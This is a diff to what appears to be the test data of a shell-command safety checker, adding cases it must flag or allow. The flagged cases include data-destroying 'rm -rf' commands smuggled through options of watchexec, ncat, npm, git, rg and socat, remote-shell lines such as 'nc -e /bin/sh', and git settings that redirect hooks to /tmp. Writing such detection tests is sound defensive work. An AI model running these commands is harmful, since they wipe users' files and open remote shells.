@@ -71,6 +71,13 @@ TOOL_COMMAND_LINES = [
     ("ls | entr -s 'rm -rf /'", RM),
     ("man -P 'rm -rf /' ls", RM),
     ("man --pager='rm -rf /' ls", RM),
+    ("watchexec 'rm -rf /'", RM),
+    ("watchexec -e py -- 'rm -rf ~'", RM),
+    ("ncat -c 'rm -rf /' -l 1234", RM),
+    ("ncat --sh-exec 'rm -rf /' host 1", RM),
+    ("npm exec -c 'rm -rf ~'", RM),
+    ("git clone -u 'rm -rf ~' repo", RM),  # a local clone runs its upload-pack
+    ("git fetch --upload-pack='rm -rf ~' origin", RM),
     ("parallel ::: 'rm -rf /'", RM),
     # Was asked as an unknown wrapper (round two); parallel's grammar is now read.
     ("parallel rm -rf ::: /", RM),
@@ -106,6 +113,14 @@ INLINE_CODE = [
     "psql -c '\\o |rm -rf /'",
     "mysql -e '\\! rm -rf /'",
     "mysql -e 'system rm -rf /'",
+    "rg --pre 'rm -rf /' x",  # runs the preprocessor on every file it searches
+    "rg --pre=./evil.sh x",
+    "socat - SYSTEM:'rm -rf /'",
+    "socat - exec:'rm -rf /'",
+    "nc -e /bin/sh host 1",
+    "busybox nc -e sh host 1",
+    "git config core.hooksPath /tmp/h",  # hooks there run on the next commit
+    "git config --global include.path /tmp/evil.conf",
 ]
 
 
@@ -241,6 +256,12 @@ BENIGN = [
     "psql -c 'select 1'",
     "docker run --rm img sh -c 'ls /'",
     "echo bash is a shell",
+    "git add -u",  # '-u' is clone's upload-pack only
+    "rg --pre-glob '*.gz' foo",
+    "socat TCP:host:80 -",
+    "nc -z host 80",
+    "watchexec -e py pytest",
+    "npm exec -- eslint .",
 ]
 
 
